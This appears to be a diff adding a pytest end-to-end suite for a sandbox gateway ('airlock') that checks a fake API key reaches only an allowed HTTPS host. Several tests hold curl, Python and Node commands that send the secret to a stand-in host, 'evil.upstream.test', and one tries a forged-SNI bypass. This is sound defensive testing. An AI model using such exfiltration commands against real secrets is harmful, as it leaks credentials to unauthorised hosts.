@@ -1,0 +1,298 @@
+"""`airlock run` with its gateway and DNS: real clients inside the sandbox call a real HTTPS
+server with the placeholder; only the allowed host receives the value.
+
+  sandbox ── its gateway (in the `airlock run` process, upstream sockets in the host netns)
+      host netns 203.0.113.201 ──veth── 203.0.113.202 upstream netns (nginx, TLS, test CA)
+  DNS: the sandbox's forwarder asks a dnsmasq on the host's loopback (--dns-server), which
+  answers api.upstream.test and evil.upstream.test with 203.0.113.202.
+
+Assertions are made on what the upstream received (nginx's JSON access log). The fake value is
+checked to be absent from everything the sandbox and airlock print.
+"""
+import json
+import os
+import secrets
+import shutil
+import socket
+import subprocess
+import tempfile
+import textwrap
+import time
+
+import pytest
+
+AIRLOCK = os.environ.get("AIRLOCK_BIN", "airlock")
+PY = "/usr/bin/python3"
+TAG = str(os.getpid() % 100000)
+UPNS = f"alsbu{TAG}"
+HOST_IF, UP_IF = f"alsbh{TAG}", f"alsbp{TAG}"
+HOST_IP, UP_IP = "203.0.113.201", "203.0.113.202"
+ALLOWED, EVIL = "api.upstream.test", "evil.upstream.test"
+
+
+def sh(*args, check=True, timeout=60, **kw):
+    return subprocess.run(list(args), check=check, capture_output=True, text=True, timeout=timeout, **kw)
+
+
+def wait_for(predicate, what, timeout=15):
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        if predicate():
+            return
+        time.sleep(0.05)
+    raise AssertionError(f"timed out waiting for {what}")
+
+
+def free_port():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+class World:
+    def __init__(self):
+        self.dir = tempfile.mkdtemp(prefix="airlock-sbgw-")
+        os.chmod(self.dir, 0o755)
+        self.procs = []
+        self.value = "sk-airlock-e2e-FAKE-" + secrets.token_hex(8)
+        self.dns_port = free_port()
+
+    def path(self, name):
+        return os.path.join(self.dir, name)
+
+    def setup(self):
+        sh("ip", "netns", "add", UPNS)
+        sh("ip", "link", "add", HOST_IF, "type", "veth", "peer", "name", UP_IF)
+        sh("ip", "link", "set", UP_IF, "netns", UPNS)
+        sh("ip", "addr", "add", f"{HOST_IP}/30", "dev", HOST_IF)
+        sh("ip", "link", "set", HOST_IF, "up")
+        sh("ip", "-n", UPNS, "addr", "add", f"{UP_IP}/30", "dev", UP_IF)
+        sh("ip", "-n", UPNS, "link", "set", UP_IF, "up")
+        sh("ip", "-n", UPNS, "link", "set", "lo", "up")
+        self.make_certificates()
+        self.start_nginx()
+        self.start_dnsmasq()
+
+    def make_certificates(self):
+        p = self.path
+        sh("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
+           "-keyout", p("ca.key"), "-out", p("ca.pem"), "-days", "2", "-subj", "/CN=airlock e2e upstream CA",
+           "-addext", "basicConstraints=critical,CA:TRUE", "-addext", "keyUsage=critical,keyCertSign")
+        sh("openssl", "req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
+           "-keyout", p("server.key"), "-out", p("server.csr"), "-subj", "/CN=upstream.test")
+        with open(p("server.ext"), "w") as f:
+            f.write(f"subjectAltName=DNS:{ALLOWED},DNS:{EVIL}\nextendedKeyUsage=serverAuth\n"
+                    "basicConstraints=CA:FALSE\n")
+        sh("openssl", "x509", "-req", "-in", p("server.csr"), "-CA", p("ca.pem"), "-CAkey", p("ca.key"),
+           "-CAcreateserial", "-out", p("server.pem"), "-days", "2", "-extfile", p("server.ext"))
+
+    def start_nginx(self):
+        d = self.dir
+        conf = self.path("nginx.conf")
+        with open(conf, "w") as f:
+            f.write(textwrap.dedent(f"""\
+                load_module /usr/lib/nginx/modules/ngx_http_echo_module.so;
+                worker_processes 1;
+                daemon off;
+                pid {d}/nginx.pid;
+                error_log {d}/nginx-error.log warn;
+                events {{ worker_connections 256; }}
+                http {{
+                  client_body_temp_path {d}/body; proxy_temp_path {d}/proxy; fastcgi_temp_path {d}/fcgi;
+                  uwsgi_temp_path {d}/uwsgi; scgi_temp_path {d}/scgi;
+                  log_format rx escape=json '{{"sni":"$ssl_server_name","host":"$host","uri":"$request_uri",'
+                                            '"authorization":"$http_authorization"}}';
+                  access_log {d}/access.log rx;
+                  server {{
+                    listen {UP_IP}:443 ssl;
+                    ssl_certificate {d}/server.pem; ssl_certificate_key {d}/server.key;
+                    location / {{ echo "ok"; }}
+                    location /echo/ {{ echo "received: $http_authorization"; }}
+                  }}
+                }}
+                """))
+        self.procs.append(subprocess.Popen(["ip", "netns", "exec", UPNS, "nginx", "-c", conf, "-p", d],
+                                           stdout=subprocess.DEVNULL,
+                                           stderr=open(self.path("nginx.stderr"), "w")))
+        wait_for(lambda: ":443 " in sh("ip", "netns", "exec", UPNS, "ss", "-ltn", check=False).stdout,
+                 "nginx listening")
+
+    def start_dnsmasq(self):
+        self.procs.append(subprocess.Popen(
+            ["dnsmasq", "--keep-in-foreground", "--no-resolv", "--no-hosts", "--bind-interfaces",
+             "--listen-address=127.0.0.1", f"--port={self.dns_port}", "--user=root",
+             f"--pid-file={self.path('dnsmasq.pid')}", f"--address=/{ALLOWED}/{UP_IP}",
+             f"--address=/{EVIL}/{UP_IP}", "--log-facility=" + self.path("dnsmasq.log")],
+            stdout=subprocess.DEVNULL, stderr=open(self.path("dnsmasq.stderr"), "w")))
+        wait_for(lambda: f":{self.dns_port} " in sh("ss", "-lun", check=False).stdout, "dnsmasq listening")
+
+    def write_config(self, action="block-and-log"):
+        path = self.path(f"airlock-{action}.toml")
+        with open(path, "w") as f:
+            f.write(textwrap.dedent(f"""\
+                [network]
+                on_secret_violation = "{action}"
+                [[network.upstream_ca]]
+                file = "{self.path('ca.pem')}"
+
+                [[secret]]
+                env = "API_KEY"
+                value_from = "env:AIRLOCK_E2E_SB_API_KEY"
+                allow_hosts = ["{ALLOWED}"]
+
+                [gateway]
+                home = "{self.path('home')}"
+                """))
+        return path
+
+    def run(self, cmd, action="block-and-log", timeout=90, args=()):
+        env = dict(os.environ)
+        env["AIRLOCK_E2E_SB_API_KEY"] = self.value
+        env["AIRLOCK_HOME"] = self.path("home")
+        proc = subprocess.run([AIRLOCK, "run", "--config", self.write_config(action),
+                               "--dns-server", f"127.0.0.1:{self.dns_port}", *args, "--", *cmd],
+                              capture_output=True, text=True, env=env, timeout=timeout)
+        assert self.value not in proc.stdout + proc.stderr, "the value reached the sandbox or a log"
+        return proc
+
+    def received(self, marker):
+        out = []
+        try:
+            with open(self.path("access.log")) as f:
+                for line in f:
+                    rec = json.loads(line)
+                    if marker in rec["uri"]:
+                        out.append(rec)
+        except FileNotFoundError:
+            pass
+        return out
+
+    def teardown(self):
+        for p in reversed(self.procs):
+            if p.poll() is None:
+                p.terminate()
+                try:
+                    p.wait(10)
+                except subprocess.TimeoutExpired:
+                    p.kill()
+                    p.wait()
+        sh("ip", "link", "del", HOST_IF, check=False)
+        sh("ip", "netns", "del", UPNS, check=False)
+        shutil.rmtree(self.dir, ignore_errors=True)
+
+
+@pytest.fixture(scope="module")
+def world():
+    w = World()
+    try:
+        w.setup()
+        yield w
+    finally:
+        w.teardown()
+
+
+def url(host, marker):
+    return f"https://{host}/{marker}"
+
+
+def test_curl_sends_the_value_only_to_the_allowed_host(world):
+    proc = world.run(["/bin/sh", "-c",
+                      f'curl -sS -m 20 -H "Authorization: Bearer $API_KEY" {url(ALLOWED, "curl-ok")};'
+                      f'echo "rc=$?"; curl -sS -m 20 -H "Authorization: Bearer $API_KEY" '
+                      f'{url(EVIL, "curl-evil")}; echo "rc=$?"'])
+    assert proc.returncode == 0, proc.stderr
+    ok = world.received("curl-ok")
+    assert len(ok) == 1, proc.stdout + proc.stderr
+    assert ok[0]["authorization"] == "Bearer " + world.value
+    assert ok[0]["sni"] == ALLOWED
+    assert proc.stdout.startswith("ok\nrc=0\n")
+    assert world.received("curl-evil") == []
+    assert proc.stdout.rstrip().endswith("rc=35") or "rc=56" in proc.stdout or "rc=52" in proc.stdout, proc.stdout
+    assert "API_KEY" in proc.stderr  # block-and-log: a host-side warning naming the secret
+
+
+@pytest.mark.xfail(strict=True, reason="the gateway does not scrub responses yet (DESIGN invariant 5)")
+def test_a_response_that_echoes_the_value_is_scrubbed(world):
+    proc = world.run(["/bin/sh", "-c",
+                      f'curl -sS -m 20 -H "Authorization: Bearer $API_KEY" {url(ALLOWED, "echo/x")}'])
+    (rec,) = world.received("echo/x")
+    assert rec["authorization"] == "Bearer " + world.value
+    assert proc.returncode == 0 and proc.stdout.startswith("received: Bearer ")
+
+
+def test_python_requests_and_urllib(world):
+    script = textwrap.dedent(f"""
+        import os, urllib.request, requests
+        h = {{"Authorization": "Bearer " + os.environ["API_KEY"]}}
+        r = requests.get("{url(ALLOWED, 'requests-ok')}", headers=h, timeout=20)
+        print("requests", r.status_code)
+        req = urllib.request.Request("{url(ALLOWED, 'urllib-ok')}", headers=h)
+        with urllib.request.urlopen(req, timeout=20) as resp:
+            print("urllib", resp.status)
+        try:
+            requests.get("{url(EVIL, 'requests-evil')}", headers=h, timeout=20)
+            print("evil answered")
+        except requests.exceptions.RequestException:
+            print("evil blocked")
+        """)
+    proc = world.run([PY, "-c", script])
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout == "requests 200\nurllib 200\nevil blocked\n"
+    for marker in ("requests-ok", "urllib-ok"):
+        (rec,) = world.received(marker)
+        assert rec["authorization"] == "Bearer " + world.value
+    assert world.received("requests-evil") == []
+
+
+def test_node_fetch_and_https(world):
+    script = textwrap.dedent(f"""
+        const https = require("https");
+        const h = {{ Authorization: "Bearer " + process.env.API_KEY }};
+        (async () => {{
+          const r = await fetch("{url(ALLOWED, 'fetch-ok')}", {{ headers: h }});
+          console.log("fetch", r.status);
+          await new Promise((resolve, reject) => {{
+            https.get("{url(ALLOWED, 'https-ok')}", {{ headers: h }}, (res) => {{
+              console.log("https", res.statusCode); res.resume(); res.on("end", resolve);
+            }}).on("error", reject);
+          }});
+          try {{ await fetch("{url(EVIL, 'fetch-evil')}", {{ headers: h }}); console.log("evil answered"); }}
+          catch (e) {{ console.log("evil blocked"); }}
+        }})();
+        """)
+    proc = world.run(["node", "-e", script])
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout == "fetch 200\nhttps 200\nevil blocked\n"
+    for marker in ("fetch-ok", "https-ok"):
+        (rec,) = world.received(marker)
+        assert rec["authorization"] == "Bearer " + world.value
+    assert world.received("fetch-evil") == []
+
+
+def test_hard_coded_ip_with_forged_sni_gets_no_value(world):
+    # No DNS lookup: the address is not pinned for the allowed name (gate 2).
+    proc = world.run(["/bin/sh", "-c",
+                      f'curl -sS -m 20 --resolve {ALLOWED}:443:{UP_IP} '
+                      f'-H "Authorization: Bearer $API_KEY" {url(ALLOWED, "forged-sni")}; echo "rc=$?"'])
+    assert proc.returncode == 0, proc.stderr
+    for rec in world.received("forged-sni"):
+        assert world.value not in rec["authorization"]
+
+
+def test_block_and_terminate_ends_the_sandbox(world):
+    start = time.monotonic()
+    proc = world.run(["/bin/sh", "-c",
+                      f'curl -sS -m 20 -H "Authorization: Bearer $API_KEY" {url(EVIL, "terminate")};'
+                      "echo still-running; sleep 60; echo not-reached"],
+                     action="block-and-terminate")
+    assert proc.returncode == 125, proc.stderr
+    assert "airlock: sandbox terminated: " in proc.stderr
+    assert "not-reached" not in proc.stdout
+    assert time.monotonic() - start < 30
+    assert world.received("terminate") == []
+
+
+def test_dns_answers_come_from_the_forwarder(world):
+    proc = world.run(["/bin/sh", "-c", f"getent hosts {ALLOWED}; getent hosts {EVIL}"])
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout.split() == [UP_IP, ALLOWED, UP_IP, EVIL]
